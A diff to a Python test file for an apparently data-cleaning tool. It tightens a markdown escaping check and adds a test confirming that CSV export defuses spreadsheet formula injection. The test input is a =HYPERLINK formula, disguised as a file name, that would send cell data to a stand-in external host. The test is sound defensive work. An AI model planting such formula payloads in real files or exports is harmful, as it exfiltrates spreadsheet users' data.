@@ -101,7 +101,7 @@ def test_rendering() -> None:
         "example",
     ]
     assert "100.00%" in text
-    assert "s\\|x#0" in render_table(stats.records(), markdown=True)
+    assert "| s\\|x\\#0 |" in render_table(stats.records(), markdown=True)  # no third cell
     assert render_accounting(stats) == "rows in 1 = kept 1 (repaired 1) + rejected 0"
 
 
@@ -133,3 +133,17 @@ def test_the_summary_gives_datasets_version_only_when_it_is_loaded(
     assert summary["versions"]["transcript_clean"] == __version__
     assert summary["versions"]["pyarrow"] == pa.__version__
     assert summary["versions"]["datasets"] == ("9.8.7" if loaded else None)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_cell_never_starts_a_formula(start: str) -> None:
+    # A spreadsheet runs a cell that starts so: a file named `=HYPERLINK(...).parquet` would.
+    source = f'{start}HYPERLINK("http://x.example/?d="&A1,"open").parquet'
+    stats = Stats(rows_in=1, rows_rejected=1)
+    stats.add_code("malformed_row", "rejected", 1, 1, source, 0)
+    rows = list(csv.DictReader(io.StringIO(stats.csv())))
+    assert rows[0]["example_source"] == "'" + source
+    assert stats.table().column("example_source")[0].as_py() == source  # the data stays as is
+    plain = Stats(rows_in=1, rows_rejected=1)
+    plain.add_code("malformed_row", "rejected", 1, 1, "raw/in.parquet", 0)
+    assert next(csv.DictReader(io.StringIO(plain.csv())))["example_source"] == "raw/in.parquet"
